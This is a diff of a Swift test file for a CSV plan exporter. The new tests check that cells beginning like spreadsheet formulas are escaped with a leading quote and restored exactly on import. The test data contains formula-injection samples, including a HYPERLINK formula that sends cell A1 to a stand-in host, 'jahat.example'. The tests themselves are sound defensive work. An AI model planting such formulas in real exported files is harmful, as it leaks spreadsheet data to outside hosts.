@@ -21,10 +21,11 @@ struct PlanFileTests {
 
     static let cases = TestDatabase.allCases.flatMap { database in PlanFileFormat.allCases.map { Case(database: database, format: $0) } }
 
-    /// Export, import into an empty database, export again: the same bytes, for the real plan and the sample.
+    /// Export, import into an empty database, export again: the same bytes, for the real plan, the sample, and the
+    /// sample with texts that start like formulas (the CSV quotes them, and the import takes exactly that quote off).
     @Test(arguments: cases)
     func exportImportExportIsIdentical(_ testCase: Case) async throws {
-        for document in [try Self.realPlan(), SamplePlan.document()] {
+        for document in [try Self.realPlan(), SamplePlan.document(), SamplePlan.withFormulaLikeTexts(code: "rumus-2030-2032")] {
             var first = Data()
             try await withTestApp(testCase.database) { app in
                 try await importPlan(document, on: app.db)
@@ -36,6 +37,31 @@ struct PlanFileTests {
                 #expect(second == first, "\(document.code) as \(testCase.format.rawValue) changed on the way through")
             }
         }
+    }
+
+    /// A cell a spreadsheet would run as a formula is written with a leading quote; plain numbers stay numbers; a
+    /// text that starts with a quote of its own keeps it. Reading takes off exactly the quote that writing added.
+    @Test func formulaCellsAreNeutralisedAndRestoredExactly() {
+        let cases: [(text: String, written: String)] = [
+            (#"=HYPERLINK("https://jahat.example","klik")"#, #"'=HYPERLINK("https://jahat.example","klik")"#),
+            ("+SUM(1,2)", "'+SUM(1,2)"), ("-2+3", "'-2+3"), ("@cmd", "'@cmd"), ("-", "'-"),
+            ("\tTab", "'\tTab"), ("\rCR", "'\rCR"), ("\r\n=1", "'\r\n=1"), ("=\u{301}x", "'=\u{301}x"),
+            ("-12", "-12"), ("+3.5", "+3.5"), ("0", "0"), ("", ""), ("Biasa", "Biasa"), (" =spasi", " =spasi"),
+            ("'kutip", "'kutip"), ("'", "'"), ("'=teks", "''=teks"), ("''dua", "'''dua"), ("'-5", "''-5"),
+        ]
+        for (text, written) in cases {
+            #expect(PlanCSV.neutralised(text) == written, "\(text.debugDescription)")
+            #expect(PlanCSV.restored(written) == text, "\(written.debugDescription)")
+        }
+    }
+
+    /// The plan CSV as a spreadsheet reads it: no cell starts like a formula.
+    @Test func planCSVHasNoLiveFormula() throws {
+        let text = String(decoding: try PlanFiles.encode(SamplePlan.withFormulaLikeTexts(), as: .csv), as: UTF8.self)
+        let cells = CSVText.rows(text).flatMap { $0 }
+        #expect(cells.contains(#"'=HYPERLINK("https://jahat.example/?d="&A1,"Rencana")"#))
+        #expect(cells.contains("'=1+1") && cells.contains("-5") && cells.contains("'kutipan biasa") && cells.contains("'''=dua kutip"))
+        #expect(cells.filter(CSVText.startsLikeAFormula).isEmpty)
     }
 
     @Test func jsonCarriesTheWholePlan() throws {
